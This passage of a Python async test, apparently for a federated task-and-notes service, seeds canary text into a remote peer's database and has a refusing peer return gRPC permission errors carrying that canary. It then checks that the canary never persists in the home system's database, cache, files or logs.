        subject = theirs.user()
        for resource, columns in {"tasks": ("title", "description"), "notes": ("title", "body")}.items():
            for _ in range(5):
                row = theirs.resource(resource, subject)
                assigned = ", ".join(f"{column} = '{canary} {column}'" for column in columns)
                work.execute(f"UPDATE public.{resource} SET {assigned} WHERE id = %s", row)
    await connect(home, user, work, remote_user=str(subject))

    async def refuse(_request: Any, context: Any) -> Page:
        await context.abort(*error_with(canary))
        raise AssertionError

    with capture_logs() as logs:
        async with LyingPeer.start(liars, "liar", refuse) as peer:
            await connect_to(home, user, peer)
            for resource in ("tasks", "notes"):
                pages = await asking.all_pages(user, "all", resource, page_size=2)
                assert str(pages).count(canary) == 10
                assert statuses(pages[0])[LIAR] == (DENIED, "")
            await asking(user, "federated:work", "tasks")
            await asking(user, "federated:liar", "tasks")
            await lines_written()

    assert any(canary in text for text in texts_in(work.database)), "the scan would find it"
    assert [entry for entry in logs if entry["event"] == "call" and entry["method"].endswith("/Query")], "the scan has logs"
    kept = [*texts_in(home.database), *texts_in_valkey(valkey), *texts_in_files(home.folder), *map(repr, logs)]
    assert [text for text in kept if canary in text or canary.encode().hex() in text] == []


def error_with(text: str) -> tuple[grpc.StatusCode, str, Any]:
    status = Status(code=grpc.StatusCode.PERMISSION_DENIED.value[0], message=text)
    status.details.add().Pack(ErrorInfo(reason=text, domain="federation.mosaicstack.dev", metadata={"remediation": text}))
    return grpc.StatusCode.PERMISSION_DENIED, text, (("grpc-status-details-bin", status.SerializeToString()),)
